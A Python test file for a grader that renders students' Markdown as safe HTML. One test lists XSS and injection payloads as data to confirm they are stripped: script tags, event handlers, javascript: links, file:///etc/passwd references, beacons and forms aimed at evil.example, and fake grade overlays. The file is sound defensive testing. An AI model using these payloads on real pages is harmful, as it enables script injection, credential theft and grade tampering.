"""A student's Markdown as markup."""

from __future__ import annotations

import re
import time

import pytest

from grader.report.prose import LONGEST, prose
from tests.report.pages import read, tags, visible

ALLOWED = {
    *(
        "p",
        "br",
        "hr",
        "em",
        "strong",
        "s",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "a",
        "h4",
        "h5",
        "h6",
    ),
    *("table", "thead", "tbody", "tr", "th", "td", "caption", "div", "dl", "dt", "dd"),
    *("b", "i", "u", "sub", "sup", "mark", "small", "kbd", "del", "ins"),
}


def test_markdown_is_rendered():
    """Emphasis, lists, tables and links look as the student meant them."""
    page = prose(
        "**bold** and *soft*\n\n- one\n- two\n\n|a|b|\n|-|-|\n|1|2|\n\n"
        "[here](https://example.org/x)"
    )

    assert {"strong", "em", "ul", "table", "a"} <= tags(page)
    assert 'href="https://example.org/x"' in page
    assert "noopener" in page


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><style>*{display:none}</style></svg>",
        "<iframe src='file:///etc/passwd'></iframe>",
        "<a href='javascript:alert(1)'>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&#58;alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](file:///etc/passwd)",
        "[x](../../other/report.html)",
        "[x](//evil.example/x)",
        "![x](file:///etc/passwd)",
        "![x](https://evil.example/pixel.png)",
        '[x](https://e.example/"onmouseover="alert(1))',
        "```\n</code></pre><script>alert(1)</script>\n```",
        "$</code><script>alert(1)</script>$",
        "<!-- --><style>@import 'https://evil.example/x.css'</style>",
        "| <b onclick=alert(1)> | x |\n|-|-|\n| 1 | 2 |",
        '<div style="position:fixed;inset:0">Grade: 100</div>',
        '<p class="points" id="findings">100</p>',
        "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
        '<img src="data:image/svg+xml;base64,PHN2Zz4=" srcset="https://evil.example/x 2x">',
        '<audio src="https://evil.example/a.mp3" autoplay></audio>',
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<form action='https://evil.example'><input name=password><button>Go</button></form>",
        (
            "<base href='https://evil.example'><meta http-equiv=refresh "
            "content='0;url=https://evil.example'>"
        ),
    ],
)
def test_attacks_do_nothing(attack):
    """No address but http, https and mailto survives; no event handler, style, class or picture."""
    found = read(prose(attack)).elements

    assert {tag for tag, _ in found} <= ALLOWED
    for _, attributes in found:
        assert set(attributes) <= {"href", "rel", "start", "class"}
        assert attributes.get("class", "formula") in ("formula", "formula display", "")
        assert attributes.get("href", "https://").startswith(("https://", "http://", "mailto:"))


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("<b>bold</b> and x<sub>1</sub>", "bold and x 1"),
        (
            "<details><summary>My answer</summary>\n\nKeras, since…\n\n</details>",
            "My answer Keras, since…",
        ),
        ("<center><h1>Keras</h1></center>", "Keras"),
        ("if a <y and z> b, a List<int>", "if a <y and z> b, a List<int>"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ('<audio controls src="data:audio/mpeg;base64,AAAA"></audio>', "[sound: in the notebook]"),
        ('<img src="plot.png" alt="my plot">', "[picture: my plot]"),
        ("![](plot.png)", "[picture: plot.png, which is not in the notebook]"),
        ("![a](attachment:a.png)", "[picture 1]"),
        ('<img src="attachment:a.png" width=300>', "[picture 1]"),
        ("`<b>code</b>`", "<b>code</b>"),
    ],
)
def test_raw_html_is_shown_not_swallowed(written, shown):
    """What Jupyter shows is shown, what it would play or load is named, and what is no markup stays
    text.
    """
    page = prose(written, pictures={"a.png": "picture 1"})

    assert " ".join(visible(page).split()) == shown


@pytest.mark.parametrize(
    ("written", "directions"),
    [
        ("أفضل شبكة Keras لأن الخسارة أقل.\n\nI prefer it.", ["rtl", None]),
        ("**אני** מעדיף Keras", ["rtl"]),
        ("1) Keras أفضل", [None]),
        ("- الأولى\n- second", ["rtl", None]),
    ],
)
def test_blocks_that_run_from_the_right_say_so(written, directions):
    """By their first letter that has a direction, as browsers do; a PDF has to be told."""
    blocks = [attributes for tag, attributes in read(prose(written)).elements if tag in ("p", "li")]

    assert [attributes.get("dir") for attributes in blocks] == directions


def test_formulas_stay_as_written():
    """Underscores and asterisks inside dollars are no emphasis; prices are no formulas."""
    page = prose("$a_1 * b_2 * c$ and $$\\sum_i x_i$$ cost $5 and $6")

    assert "<em>" not in page
    assert '<code class="formula">$a_1 * b_2 * c$</code>' in page
    assert "cost $5 and $6" in visible(page)


@pytest.mark.parametrize(
    "sentence",
    [
        "Taxpayers earning $25,000 to $34,000 pay tax",
        "If Alice gives Bob $10, and Bob gives Eve $10, how much money does Bob have?",
        "$29,211 and $34,390",
        "$ echo hello",
    ],
)
def test_prices_and_prompts_are_no_formulas(sentence):
    """Dollars stay dollars, and the words between them words."""
    page = prose(sentence)

    assert tags(page) == {"p"}
    assert visible(page).strip() == sentence


def test_formulas_in_their_own_lines_stay_as_written():
    """What stands between two lines of `$$` is no heading, list or emphasis, and no markup."""
    page = prose("before\n\n$$\n# a\n- b_1 _c_ <b>d</b>\n$$\n\nafter")

    assert tags(page) == {"p", "code"}
    assert "# a - b_1 _c_ <b>d</b>" in " ".join(visible(page).split())


def test_headings_rank_below_those_of_the_report():
    """A student's heading can't be mistaken for one of the report's sections."""
    assert tags(prose("# Grade: 100\n\n###### small")) == {"h4", "h5"}


def test_pictures_become_their_description():
    """A picture on the web leaves its description and a link behind, and loads nothing."""
    page = prose("![my plot](https://example.org/plot.png)")

    assert "[picture: my plot" in visible(page)
    assert "img" not in tags(page)
    assert 'href="https://example.org/plot.png"' in page


def test_endless_answers_are_cut():
    """A very long answer is cut and says where the rest is."""
    page = prose("word " * LONGEST)

    assert len(page) < 2 * LONGEST
    assert "goes on in the notebook" in page


@pytest.mark.parametrize(
    "table", ["|a" * 40 + "\n" + "|-" * 40, "|a|b|\n|-|-|\n" + "|1|2|\n" * 190]
)
def test_tables_that_nobody_writes_stay_text(table):
    """A table of forty columns or two hundred rows is shown as text: laying it out would take
    seconds.
    """
    assert "table" not in tags(prose(table))


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "*a ",
        "> ",
        "![[",
        "$",
        "`",
        "<",
        "- ",
        "[a](<",
        "_a__b",
        "&#",
        "|-",
        "\\",
        "1. ",
        "<b>",
        "<ul><li>",
        "<table><tr><td>",
        "<img src=",
        "<a ",
        "<!--",
        "</div>",
        "<details><summary>",
        "<p><",
    ],
)
def test_hostile_nesting_takes_no_time(unit):
    """No pile of brackets makes the parser slow."""
    start = time.process_time()

    prose(unit * 10_000)

    assert time.process_time() - start < 5


def test_headings_skip_no_level():
    """A student's `###` below our heading is the next level, whatever it was; one without words is
    none.
    """
    written = prose("### a\n\n#### b\n\n# c\n\n###\n\n##### d")

    assert re.findall("<h.>.</h.>", written) == [
        "<h4>a</h4>", "<h5>b</h5>", "<h4>c</h4>", "<h5>d</h5>",
    ]  # fmt: skip
    assert written.count("<h") == 4


def test_nothing_is_there_without_a_word():
    """Links without words say where they lead; an empty corner of a table is no heading."""
    written = prose("[](https://a.example)\n\n| | b |\n|---|---|\n| 1 | 2 |\n")

    assert ">https://a.example</a>" in written
    assert "<th></th>" not in written
    assert "<td></td>" in written
